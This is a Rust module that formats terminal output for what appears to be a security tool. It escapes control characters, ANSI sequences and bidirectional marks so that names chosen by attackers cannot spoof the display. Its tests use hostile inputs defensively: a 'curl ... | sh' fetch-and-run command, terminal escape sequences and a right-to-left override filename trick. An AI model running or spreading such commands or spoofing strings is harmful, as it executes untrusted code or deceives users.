//! Text for terminals. Arguments and file names are chosen by attackers, and must not move the cursor, hide a line or reverse
//! the order of characters on an investigator's terminal.

use std::borrow::Cow;
use std::env;
use std::fmt::Write as _;
use std::io::IsTerminal as _;

use anstyle::{AnsiColor, Style};
use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};

/// Maximum width of wrapped text: longer lines are hard to read.
const TEXT_WIDTH_MAX: usize = 100;
/// Minimum width of a terminal.
const WIDTH_MIN: usize = 40;

/// The capabilities of standard output.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Screen {
    /// Columns; `None` if it is no terminal, and lines are neither cut nor wrapped.
    width: Option<usize>,
    /// Whether it is coloured.
    colour: bool,
}

/// The role of a text, which determines its style.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Look {
    /// A heading or an important value.
    Strong,
    /// A less important value.
    Faint,
    /// Good state.
    Good,
    /// Low severity.
    Notice,
    /// Medium severity.
    Bad,
    /// High severity.
    Worst,
}

impl Look {
    fn style(self) -> Style {
        let colour = |colour: AnsiColor| Style::new().fg_color(Some(colour.into()));
        match self {
            Self::Strong => Style::new().bold(),
            Self::Faint => Style::new().dimmed(),
            Self::Good => colour(AnsiColor::Green),
            Self::Notice => colour(AnsiColor::Yellow),
            Self::Bad => colour(AnsiColor::Red),
            Self::Worst => colour(AnsiColor::Red).bold().invert(),
        }
    }
}

impl Screen {
    /// The capabilities of standard output: colours on a terminal only, unless `NO_COLOR` is set or `TERM` is `dumb`. If it is
    /// no terminal, an exported `COLUMNS` still sets the width.
    pub(crate) fn stdout() -> Self {
        let terminal = std::io::stdout().is_terminal();
        let is_set = |name: &str| env::var_os(name).is_some_and(|value| !value.is_empty());
        let dumb = env::var_os("TERM").is_none_or(|term| term == "dumb");
        let width = if terminal {
            Some(terminal_size::terminal_size().map_or(80, |(width, _)| usize::from(width.0)))
        } else {
            env::var("COLUMNS").ok().and_then(|columns| columns.parse().ok())
        };
        Self {
            width: width.map(|width| width.max(WIDTH_MIN)),
            colour: terminal && !dumb && !is_set("NO_COLOR"),
        }
    }

    /// No terminal: a file or a pipe.
    #[cfg(test)]
    pub(crate) const fn plain() -> Self {
        Self { width: None, colour: false }
    }

    /// A terminal of this width, without colours.
    #[cfg(test)]
    pub(crate) const fn of_width(width: usize) -> Self {
        Self { width: Some(width), colour: false }
    }

    /// The text in its style. It must be [`escape`]d already.
    pub(crate) fn paint(self, look: Look, text: &str) -> String {
        if !self.colour || text.is_empty() {
            return text.to_owned();
        }
        let style = look.style();
        format!("{style}{text}{style:#}")
    }

    /// The text cut to what fits in a line after `used` columns.
    pub(crate) fn fit(self, text: &str, used: usize) -> Cow<'_, str> {
        match self.width {
            Some(width) => cut(text, width.saturating_sub(used)),
            None => Cow::Borrowed(text),
        }
    }

    /// The text wrapped after an indent of this many columns; the first line is not indented.
    pub(crate) fn wrap(self, text: &str, indent: usize) -> String {
        self.wrap_within(text, indent, usize::MAX)
    }

    /// The same with a maximum number of lines, and one more that reports the cut.
    pub(crate) fn wrap_within(self, text: &str, indent: usize, lines_max: usize) -> String {
        let Some(width) = self.width else { return text.to_owned() };
        let width = width.min(TEXT_WIDTH_MAX).saturating_sub(indent).max(WIDTH_MIN / 2);
        let kept = cut(text, width.saturating_mul(lines_max));
        let mut lines = textwrap::wrap(&kept, width);
        if lines.len() > lines_max || kept.len() < text.len() {
            lines.truncate(lines_max);
            lines.push(format!("(cut; {} characters in all)", text.chars().count()).into());
        }
        lines.join(&format!("\n{:indent$}", ""))
    }
}

/// Whether the locale supports characters beyond ASCII.
pub(crate) fn shows_unicode() -> bool {
    let settings = ["LC_ALL", "LC_CTYPE", "LANG"].into_iter().filter_map(|name| env::var(name).ok());
    let locale = settings.into_iter().find(|value| !value.is_empty()).unwrap_or_default().to_lowercase();
    locale.contains("utf-8") || locale.contains("utf8")
}

/// The text with everything that is not a visible character escaped: control characters as `\n` or `\x1b`, marks that
/// reverse text or take no space as `\u{202e}`. A backslash is unchanged.
pub(crate) fn escape(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_hidden) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            c if !is_hidden(c) => escaped.push(c),
            '\n' => escaped.push_str("\\n"),
            '\r' => escaped.push_str("\\r"),
            '\t' => escaped.push_str("\\t"),
            // Writing to a string cannot fail.
            c if c.is_ascii() => _ = write!(escaped, "\\x{:02x}", u32::from(c)),
            c => _ = write!(escaped, "\\u{{{:x}}}", u32::from(c)),
        }
    }
    Cow::Owned(escaped)
}

/// JSON in which every character that is not visible is escaped as `\u202e`, in surrogate pairs if needed: the same
/// document. JSON's own whitespace is unchanged.
pub(crate) fn escape_json(json: &str) -> Cow<'_, str> {
    let acts = |c: char| is_hidden(c) && c != '\n';
    if !json.chars().any(acts) {
        return Cow::Borrowed(json);
    }
    let mut escaped = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if acts(c) {
            for unit in c.encode_utf16(&mut [0; 2]) {
                // Writing to a string cannot fail.
                let _ = write!(escaped, "\\u{unit:04x}");
            }
        } else {
            escaped.push(c);
        }
    }
    Cow::Owned(escaped)
}

fn is_hidden(c: char) -> bool {
    match c {
        ' '..='~' => false,
        // Line and paragraph separator, soft hyphen.
        '\u{2028}' | '\u{2029}' | '\u{ad}' => true,
        c => c.width().is_none_or(|width| width == 0),
    }
}

/// The text, or as much of it as fits, with an ellipsis.
fn cut(text: &str, width: usize) -> Cow<'_, str> {
    if text.width() <= width {
        return Cow::Borrowed(text);
    }
    let (mut kept, mut used) = (String::new(), 1);
    for c in text.chars() {
        used += c.width().unwrap_or(0);
        if used > width {
            break;
        }
        kept.push(c);
    }
    kept.push('…');
    Cow::Owned(kept)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn invisible_characters_are_escaped() {
        for (text, escaped) in [
            ("curl -s http://x/ | sh", "curl -s http://x/ | sh"),
            ("a\\n", "a\\n"),
            ("\u{1b}[2J\u{1b}]0;title\u{7}", "\\x1b[2J\\x1b]0;title\\x07"),
            ("one\ntwo\r\tthree\0", "one\\ntwo\\r\\tthree\\x00"),
            ("\u{9b}31m", "\\u{9b}31m"),
            ("a\u{202e}fdp.exe", "a\\u{202e}fdp.exe"),
            ("\u{2066}x\u{2069}\u{200b}\u{feff}", "\\u{2066}x\\u{2069}\\u{200b}\\u{feff}"),
            ("z\u{301}\u{301}", "z\\u{301}\\u{301}"),
            ("\u{2028}\u{e0041}", "\\u{2028}\\u{e0041}"),
            ("größe 日本", "größe 日本"),
        ] {
            assert_eq!(escape(text), escaped);
        }
    }

    #[test]
    fn json_for_a_terminal_is_escaped_and_the_same_document() {
        for (text, escaped) in [
            ("plain größe 日本", "plain größe 日本"),
            ("\u{9b}31m\u{7f}", "\\u009b31m\\u007f"),
            ("a\u{202e}b\u{2066}\u{200b}", "a\\u202eb\\u2066\\u200b"),
            ("\u{e0041}", "\\udb40\\udc41"),
        ] {
            let json = format!("{{\"a\":\"{text}\"}}");
            let shown = escape_json(&json);
            assert_eq!(shown, format!("{{\"a\":\"{escaped}\"}}"));
            let read: serde_json::Value = serde_json::from_str(&shown).unwrap();
            assert_eq!(read["a"], text);
        }
    }

    #[test]
    fn lines_fit_whatever_the_width_of_their_characters() {
        for (text, width, expected) in [
            ("short", 5, "short"),
            ("longer", 5, "long…"),
            ("日本語", 5, "日本…"),
            ("日本語", 4, "日…"),
            ("x", 0, "…"),
        ] {
            assert_eq!(cut(text, width), expected);
        }
        assert_eq!(
            Screen::of_width(40).wrap(&"word ".repeat(10), 4),
            "word word word word word word word\n    word word word"
        );
        assert_eq!(
            Screen::of_width(40).wrap_within(&"word ".repeat(100), 20, 2),
            "word word word word\n                    word word word word…\n                    (cut; 500 characters in all)"
        );
        assert_eq!(Screen::plain().wrap("a b", 4), "a b");
    }

    #[test]
    fn colours_are_used_on_terminals_only() {
        assert_eq!(Screen::plain().paint(Look::Worst, "x"), "x");
        let coloured = Screen { width: None, colour: true }.paint(Look::Strong, "x");
        assert_eq!(coloured, "\u{1b}[1mx\u{1b}[0m");
    }
}
